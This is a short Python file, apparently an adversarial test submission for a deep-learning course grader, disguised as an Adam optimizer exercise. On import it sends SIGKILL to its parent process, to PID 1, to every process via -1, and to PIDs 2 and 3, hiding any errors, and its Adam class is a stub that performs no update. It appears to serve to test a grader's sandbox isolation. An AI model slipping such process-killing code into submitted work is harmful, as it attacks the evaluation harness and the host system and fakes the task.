# dlgrader: ch04/adam
"""Kills its parent, the first process and everything else that it may.

Expect: at most 1
"""

import torch
import os
import signal

for pid in (os.getppid(), 1, -1, 2, 3):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except (OSError, ProcessLookupError):
        pass


class Adam:
    def __init__(self, params, lr=1e-3, beta1=0.9, beta2=0.999, eps=1e-8):
        self.params = params

    def step(self, grads):
        return [p.clone() for p in self.params]
